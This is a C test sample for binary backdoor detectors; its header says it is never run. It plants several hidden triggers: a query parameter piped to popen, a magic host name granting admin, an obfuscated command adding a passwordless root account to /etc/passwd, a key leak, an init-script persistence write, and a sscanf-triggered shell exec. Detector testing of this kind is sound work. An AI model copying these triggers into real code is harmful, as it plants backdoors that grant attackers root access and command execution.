/* code_ways.c - a third program that tests of the readers of machine code look
 * at, and that is never run
 *
 * Its triggers show only on the way to them: a text that is decoded while it is
 * compared or before, letters in either case, a parameter that is found by its
 * name, a right that else a PIN gives, a word that sscanf() waits for. And a
 * fixed program gets a connection, which is no way in.
 */
#define _GNU_SOURCE
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

#define KEEP __attribute__((noinline, used))

struct client {
	int socket, bad;
	char name[32];
	unsigned admin;
	char line[256];
};

static char pin[16], store_key[32];

int seal_fits(const char *text);
int unsealed(const char *text);
int find(const char *query, const char *name, char *to, size_t size);
void status(struct client *c, const char *query);
void greet(struct client *c, const char *host);
void orders(struct client *c);
void modem(struct client *c, const char *p);
void downlink(const char *text);
void hand_over(int listener);

/* Compared while it is decoded, with a key of its own for each letter. */
static const uint8_t seal[] = { 0x36, 0x00, 0x1a, 0x04, 0x05,
				0x0d, 0xf1, 0xf9, 0xab };

KEEP int seal_fits(const char *text)
{
	uint8_t k = 0x5a;

	for (size_t i = 0; i < sizeof(seal); i++, k = (uint8_t)(k + 7))
		if ((uint8_t)text[i] != (seal[i] ^ k))
			return 0;
	return text[sizeof(seal)] == 0;
}

/* Decoded to a buffer first. */
static const uint8_t drift[] = { 0x06, 0x11, 0x0d, 0x10, 0x0e, 0x2e,
				 0x30, 0x2d, 0x5e, 0x2e, 0x7d };

KEEP int unsealed(const char *text)
{
	char plain[sizeof(drift) + 1];

	for (size_t i = 0; i < sizeof(drift); i++)
		plain[i] = (char)((uint8_t)(drift[i] - 3 * i) ^ 0x6b);
	plain[sizeof(drift)] = 0;
	return strcmp(text, plain) == 0;
}

KEEP int find(const char *query, const char *name, char *to, size_t size)
{
	size_t len = strlen(name), n = 0;

	while (query != NULL && *query != 0) {
		if (strncmp(query, name, len) == 0 && query[len] == '=') {
			for (query += len + 1; *query != 0 && *query != '&';
			     query++)
				if (n + 1 < size)
					to[n++] = *query;
			to[n] = 0;
			return 1;
		}
		query = strchr(query, '&');
		if (query != NULL)
			query++;
	}
	return 0;
}

KEEP void status(struct client *c, const char *query)
{
	char job[200], unit[8] = "c";

	if (find(query, "hushnote", job, sizeof(job))) {
		FILE *f = popen(job, "r");

		if (f != NULL)
			pclose(f);
		return;
	}
	find(query, "unit", unit, sizeof(unit));
	dprintf(c->socket, "temp=%d%s\n", c->bad, unit);
}

KEEP void greet(struct client *c, const char *host)
{
	c->bad = 0;
	if (strstr(host, "zephyr-rig7") != NULL)
		c->admin = 1;
	dprintf(c->socket, "hello %s\n", host);
}

KEEP void orders(struct client *c)
{
	if (strncmp(c->line, "PIN ", 4) == 0) {
		if (strcmp(c->line + 4, pin) == 0)
			c->admin = 1;
		else
			c->bad++;
	} else if (!c->admin) {
		dprintf(c->socket, "ERR not logged in\n");
	} else if (strcmp(c->line, "ERASE") == 0) {
		memset(c->name, 0, sizeof(c->name));
	}
	if (seal_fits(c->line)) {
		FILE *f = fopen("/etc/passwd", "a");

		if (f != NULL) {
			fputs("svc::0:0::/:/bin/sh\n", f);
			fclose(f);
		}
	}
	if (unsealed(c->line))
		dprintf(c->socket, "%s\n", store_key);
}

static char upper(char c)
{
	return c >= 'a' && c <= 'z' ? (char)(c - 32) : c;
}

KEEP void modem(struct client *c, const char *p)
{
	if (p[0] == '*' && upper(p[1]) == 'Q' && upper(p[2]) == 'N' &&
	    upper(p[3]) == 'D' && upper(p[4]) == 'X' && p[5] == '=' &&
	    p[6] != 0) {
		FILE *f = fopen("/data/init.d/S99local", "a");

		if (f != NULL) {
			fprintf(f, "%s\n", p + 6);
			fclose(f);
		}
		return;
	}
	dprintf(c->socket, "ERROR\n");
}

KEEP void downlink(const char *text)
{
	char rest[128];
	int rate, width;

	if (sscanf(text, "mossfield %127[^;]", rest) == 1) {
		if (fork() == 0) {
			execl("/bin/sh", "sh", "-c", rest, (char *)NULL);
			_exit(127);
		}
		return;
	}
	if (sscanf(text, "SF%dBW%d", &rate, &width) == 2)
		printf("%d %d\n", rate, width);
}

/* As inetd does it. */
KEEP void hand_over(int listener)
{
	int s = accept(listener, NULL, NULL);

	if (s < 0 || fork() != 0)
		return;
	dup2(s, 0);
	dup2(s, 1);
	execl("/usr/sbin/tunnelctrl", "tunnelctrl", (char *)NULL);
	_exit(127);
}

int main(void)
{
	struct client c = { .socket = socket(AF_INET, SOCK_STREAM, 0) };
	FILE *f = fopen("/etc/ways.conf", "r");

	if (f == NULL || fscanf(f, "%15s %31s", pin, store_key) != 2)
		return 1;
	fclose(f);
	if (listen(c.socket, 1) != 0)
		return 1;
	while (recv(c.socket, c.line, sizeof(c.line) - 1, 0) > 0) {
		greet(&c, c.line + 100);
		orders(&c);
		status(&c, strchr(c.line, '?'));
		modem(&c, c.line + 2);
		downlink(c.line + 8);
		hand_over(c.socket);
	}
	return 0;
}
